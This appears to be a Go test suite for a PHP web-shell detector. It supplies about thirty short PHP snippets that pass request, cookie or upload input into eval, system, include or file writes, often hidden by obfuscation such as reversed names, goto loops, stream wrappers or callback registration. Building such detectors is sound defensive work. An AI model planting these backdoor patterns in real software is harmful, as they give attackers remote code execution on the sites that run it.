package php

import (
	"strings"
	"testing"
)

// TestTricks reads short inert scripts, each of one way to hide a call.
func TestTricks(t *testing.T) {
	for _, c := range []struct{ name, code, want string }{
		{"form field as variable", `<form method=post><textarea name=code></textarea></form><?php @eval(stripslashes($code));`, "code eval request:_REQUEST[code] - direct none"},
		{"form field set before", `<?php $cmd='ls'; system($cmd); ?><form><input name="cmd"></form>`, "command system constant - direct none"},
		{"form field and include", `<?php include 'a.php'; system($cmd); ?><form><input name="cmd"></form>`, "command system constant - direct include"},
		{"file field as variable", `<input type="file" name="userfile"><?php move_uploaded_file($userfile, "a.php");`, "upload move_uploaded_file upload:_FILES[userfile.tmp_name] constant direct none"},
		{"variable nothing sets is called", `<?php $x($_POST['web']);`, "call ? request:_POST[web] unknown unknown none"},
		{"enum case value", `<?php enum E: string { case Run = 'system'; } (E::Run->value)($_GET['c']);`, "command system request:_GET[c] - variable none"},
		{"enum method", `<?php enum E { case A; function go($x) { eval($x); } } E::A->go($_POST['x']);`, "code eval request:_POST[x] - direct none"},
		{"renamed trait method", `<?php trait T { private function r($a) { system($a); } } class C { use T { r as public q; } } (new C)->q($_GET['a']);`, "command system request:_GET[a] - direct none"},
		{"constant of a class by name", `<?php class K { const A = 'system'; } constant('K::A')($_GET['c']);`, "command system request:_GET[c] - variable none"},
		{"escaped query string", `<?php parse_str('f=%73%79%73tem', $a); $a['f']($_GET['c']);`, "command system request:_GET[c] - computed:decode none"},
		{"number before dots", `<?php $f = 1...1; eval($f.$_GET['c']);`, "code eval part-request:_GET[c] - direct none"},
		{"letters of a number", `<?=$_=(9**99...1)[15];$__=$_;$__++;$__++;$__++;$_=7002...1^-20.1..1^$_.$_.$_.$__;$$_[0]($$_[1]);`, "call ? request:_GET[1] request:_GET[0] input none"},
		{"names without quotes", `<?php $f = strrev(metsys); $f($_GET['c']);`, "command system request:_GET[c] - computed:reverse none"},
		{"pattern of an image", `<?php $x = exif_read_data("a.jpg"); preg_replace($x['Model'], $x['Make'], '');`, "code preg_replace file file preg-e none"},
		{"filter stream", `<?php include 'php://filter/convert.base64-decode/resource='.$_GET['f'];`, "include include part-request:_GET[f] - stream none"},
		{"scheme of its own", `<?php class W { private $d; function stream_open($p) { $this->d = $_POST['c']; return true; } function stream_read($n) { return $this->d; } } stream_wrapper_register('w', 'W'); include 'w://x';`, "code include request:_POST[c] - stream none"},
		{"file that was written", `<?php $t = tempnam('/tmp', 'x'); file_put_contents($t, $_POST['c']); include $t;`, "file-write file_put_contents request:_POST[c] unknown direct none|include include request:_POST[c] - stored none"},
		{"upload that was moved", `<?php rename($_FILES['f']['tmp_name'], 'up.php'); include 'up.php';`, "file-write rename upload:_FILES[f.tmp_name] constant direct none|include include upload:_FILES[f.tmp_name] - stored none"},
		{"escaped path", `<?php include "\x2f\x68\x6f\x6d\x65\x2f\x61\x2f\x2e\x62\x2e\x69\x63\x6f";`, "include include constant - computed:escape none"},
		{"path query that calls", `<?php $p = new DOMXPath($d); $p->registerPHPFunctions(); $p->query("php:function('system','".$_GET['c']."')");`, "code registerphpfunctions constant - callback:registerphpfunctions none|call ? part-request:_GET[c] part-request:_GET[c] input+callback:registerphpfunctions none"},
		{"style sheet that calls", `<?php $d = new DOMDocument; $d->loadXML($_POST['x']); $x = new XSLTProcessor; $x->registerPHPFunctions(); $x->importStylesheet($d);`, "code registerphpfunctions constant - callback:registerphpfunctions none|call ? request:_POST[x] request:_POST[x] input+callback:registerphpfunctions none"},
		{"log of the mailer", `<?php mail('a', 'b', 'c', 'd', '-X'.$_GET['f']);`, "command mail part-request:_GET[f] - direct none"},
		{"serialised callback", `<?php $a = unserialize($_COOKIE['d']); array_map($a[0], $a[1]);`, "deserialise unserialize cookie:_COOKIE[d] - direct none|call ? cookie:_COOKIE[d] cookie:_COOKIE[d] input+callback:array_map none"},
		{"session handler", `<?php session_set_save_handler('strlen', 'strlen', 'system', 'strlen', 'strlen', 'strlen');`, "command system cookie:session - callback:session_set_save_handler none"},
		{"count of an object", `<?php class D implements Countable { public $a; function count(): int { eval($this->a); } } $d = new D; $d->a = $_POST['x']; count($d);`, "code eval request:_POST[x] - direct none"},
		{"stack", `<?php $s = new SplStack; $s->push($_GET['c']); $s->push('system'); $f = $s->pop(); $f($s->pop());`, "command system request:_GET[c] - variable none"},
		{"loop of jumps", `<?php $k = $_POST['k']; $o = base64_decode('YWJj'); $i = 0; a: $o[$i] = chr(ord($o[$i]) - ord($k)); $i++; if ($i < strlen($o)) { goto a; } goto b; b: eval($o);`, "code eval request:_POST[k] - direct none"},
		{"known loop of jumps", `<?php $w = 'metsys'; $f = ''; $i = 5; a: $f .= $w[$i]; $i--; if ($i >= 0) { goto a; } $f($_GET['c']);`, "command system request:_GET[c] - computed:offset none"},
		{"jumps in a function", `<?php $f = d('x', $_POST['k']); eval($f); function d($w, $k) { goto s; q: if ($i < 9) { goto m; } goto r; s: $i = 0; m: $w .= $k; $i++; goto q; r: return $w; goto e; e: }`, "code eval part-request:_POST[k] - direct none"},
		{"values of a line", `<?php [$a, $b] = str_getcsv('sys,tem'); ($a.$b)($_GET['c']);`, "command system request:_GET[c] - computed:offset none"},
		{"keys", `<?php foreach (array_fill_keys(['system'], 1) as $f => $x) $f($_GET['c']);`, "command system request:_GET[c] - variable none"},
		{"page of an application", `<?php $this->requireAdmin(); file_put_contents($_POST['n'], $_POST['d']);`, "file-write file_put_contents request:_POST[d] request:_POST[n] direct include"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := strings.Join(sinkFields(t, c.code), "|"); got != c.want {
				t.Errorf("%s\n got %q\nwant %q", c.code, got, c.want)
			}
		})
	}
}
